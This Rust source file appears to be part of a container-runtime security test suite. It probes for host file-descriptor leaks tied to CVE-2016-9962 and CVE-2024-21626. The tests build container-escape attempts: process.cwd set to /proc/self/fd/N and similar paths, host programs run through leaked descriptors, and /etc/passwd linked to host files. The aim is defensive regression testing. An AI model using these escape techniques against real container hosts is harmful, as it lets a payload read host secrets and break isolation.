//! Descriptors of the host: none may reach the payload, and none may become its working directory or its program.

use super::arena::{Arena, Ran, Runtime, SECRET, capture};
use super::{Attack, Verdict, settle};
use harness::json;
use std::process::Command;
use std::time::Duration;

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "fds_of_the_caller",
            cve: "2016-9962, 2024-21626",
            what: "the caller holds descriptors 3-9 on a directory of the host; the payload looks for them",
            run: inherited,
        },
        Attack {
            name: "cwd_is_a_descriptor",
            cve: "2024-21626",
            what: "process.cwd is /proc/self/fd/N for N of 0-20, while the caller holds 3-9 on a directory of the host",
            run: |runtime| every(runtime, |_, number| format!("/proc/self/fd/{number}")),
        },
        Attack {
            name: "cwd_below_a_descriptor",
            cve: "2024-21626",
            what: "process.cwd climbs from /proc/self/fd/N, and through /proc/1/fd/N and /proc/thread-self/fd/N",
            run: |runtime| {
                every(runtime, |_, number| match number % 3 {
                    0 => format!("/proc/self/fd/{number}/.."),
                    1 => format!("/proc/thread-self/fd/{number}"),
                    _ => format!("/proc/1/fd/{number}/../.."),
                })
            },
        },
        Attack {
            name: "cwd_is_a_link_to_a_descriptor",
            cve: "2024-21626",
            what: "process.cwd is a link of the image to /proc/self/fd/N",
            run: |runtime| {
                every(runtime, |arena, number| {
                    arena.link("work", format!("/proc/self/fd/{number}"));
                    "/work".into()
                })
            },
        },
        Attack {
            name: "cwd_is_a_process_link",
            cve: "2024-21626",
            what: "process.cwd is /proc/self/cwd, /proc/self/root, /proc/1/root, or a link of the image to them",
            run: process_links,
        },
        Attack {
            name: "program_is_reached_through_a_descriptor",
            cve: "2024-21626",
            what: "process.args[0] is a program of the host, reached through /proc/self/fd/N",
            run: program,
        },
        Attack {
            name: "passwd_is_reached_through_a_descriptor",
            cve: "2024-21626",
            what: "/etc/passwd of the image is a link to /proc/self/fd/N/passwd; HOME would tell the host's file",
            run: passwd,
        },
    ]
}

/// Descriptors 3-9 on the host's directory, not closed on exec.
pub(super) fn holding(arena: &Arena) -> String {
    let opens: Vec<String> = (3..10).map(|fd| format!("exec {fd}<'{}'", arena.host().display())).collect();
    format!("{}; exec \"$@\"", opens.join("; "))
}

/// The payload's way of looking must work where there is a hole.
fn probe_works(runtime: &Runtime<'_>, arena: &Arena) -> Result<(), Verdict> {
    let mut command = Command::new("sh");
    command.args(["-c", &format!("cd /proc; {}", holding(arena)), "sh"]);
    command.arg(runtime.host.payload().with_file_name("attacker"));
    command.args(["fds", ";", "reach", &arena.host_relative("secret")]);
    let ran = capture(command, Duration::from_secs(5));
    match ran.out.contains(SECRET) && ran.out.contains("9 -> ") {
        true => Ok(()),
        false => Err(Verdict::Void(format!("the probe finds nothing even on the host: {}", ran.out))),
    }
}

fn inherited(runtime: &Runtime<'_>) -> Verdict {
    let mut arena = Arena::new(runtime, &[]);
    let secret = arena.host_relative("secret");
    arena = arena.payload(&["fds", ";", "reach", &secret]);
    if let Err(void) = probe_works(runtime, &arena) {
        return void;
    }
    arena.wrapper = Some(holding(&arena));
    let before = arena.inventory();
    let ran = arena.run(runtime);
    if let Some(line) = ran.line("fds ")
        && line.matches(" -> ").count() > 3
    {
        return Verdict::Hit(format!("the payload inherited {line}"));
    }
    settle(&arena, runtime, &before, &ran)
}

fn every(runtime: &Runtime<'_>, cwd: fn(&Arena, u32) -> String) -> Verdict {
    let (mut ran_well, mut refused) = (0, 0);
    for number in 0..=20 {
        let mut arena = Arena::new(runtime, &[]);
        let secret = arena.host_relative("secret");
        arena = arena.payload(&["cwd", ";", "reach", &secret]);
        if number == 0
            && let Err(void) = probe_works(runtime, &arena)
        {
            return void;
        }
        arena.wrapper = Some(holding(&arena));
        let cwd = cwd(&arena, number);
        arena.config["process"]["cwd"] = json!(cwd);
        let before = arena.inventory();
        let ran = arena.run(runtime);
        match settled(&arena, runtime, &before, &ran, &cwd) {
            Verdict::Held(_) if ran.alive() => ran_well += 1,
            Verdict::Held(_) => refused += 1,
            other => return other,
        }
    }
    Verdict::Held(format!("{refused} refused, {ran_well} ran inside their root"))
}

fn settled(arena: &Arena, runtime: &Runtime<'_>, before: &[String], ran: &Ran, cwd: &str) -> Verdict {
    if ran.out.contains("REACHED") {
        return Verdict::Hit(format!("with cwd {cwd} a secret file of the host was read"));
    }
    if let Some(line) = ran.line("cwd ")
        && (line.contains("unreachable") || line.contains("error"))
    {
        return Verdict::Hit(format!("with cwd {cwd} the payload stands outside its root: {line}"));
    }
    settle(arena, runtime, before, ran)
}

fn process_links(runtime: &Runtime<'_>) -> Verdict {
    let mut last = Verdict::Void("nothing was tried".into());
    for (link, cwd) in [
        (None, "/proc/self/cwd"),
        (None, "/proc/self/root"),
        (None, "/proc/1/root"),
        (None, "/proc/1/cwd"),
        (Some("/proc/self/cwd"), "/work"),
        (Some("/proc/1/root/../.."), "/work"),
    ] {
        let mut arena = Arena::new(runtime, &[]);
        let secret = arena.host_relative("secret");
        arena = arena.payload(&["cwd", ";", "reach", &secret]);
        if let Some(target) = link {
            arena.link("work", target);
        }
        arena.config["process"]["cwd"] = json!(cwd);
        let before = arena.inventory();
        let ran = arena.run(runtime);
        last = settled(&arena, runtime, &before, &ran, cwd);
        if !matches!(last, Verdict::Held(_)) {
            return last;
        }
    }
    last
}

fn program(runtime: &Runtime<'_>) -> Verdict {
    let mut refused = 0;
    for number in 0..=20 {
        let mut arena = Arena::new(runtime, &[]);
        std::fs::copy(runtime.host.payload().with_file_name("attacker"), arena.host().join("program"))
            .expect("a program");
        arena.wrapper = Some(holding(&arena));
        arena.config["process"]["args"] = json!([format!("/proc/self/fd/{number}/program"), "say", "FROM-THE-HOST"]);
        let before = arena.inventory();
        let ran = arena.run(runtime);
        if ran.out.contains("FROM-THE-HOST") {
            return Verdict::Hit(format!("descriptor {number} let a program of the host run"));
        }
        match settle(&arena, runtime, &before, &ran) {
            Verdict::Held(_) => refused += 1,
            other => return other,
        }
    }
    Verdict::Held(format!("{refused} refused"))
}

fn passwd(runtime: &Runtime<'_>) -> Verdict {
    let mut good = 0;
    for number in 0..=20 {
        let mut arena = Arena::new(runtime, &["env"]);
        std::fs::write(arena.host().join("passwd"), format!("root:x:0:0::/{SECRET}:/\n")).expect("a file");
        arena.link("etc/passwd", format!("/proc/self/fd/{number}/passwd"));
        arena.wrapper = Some(holding(&arena));
        let before = arena.inventory();
        let ran = arena.run(runtime);
        if ran.out.contains(SECRET) {
            return Verdict::Hit(format!("descriptor {number} let a file of the host be read as passwd"));
        }
        match settle(&arena, runtime, &before, &ran) {
            Verdict::Held(_) => good += u32::from(ran.alive()),
            other => return other,
        }
    }
    Verdict::Held(format!("{good} of 21 ran, none with the host's passwd"))
}
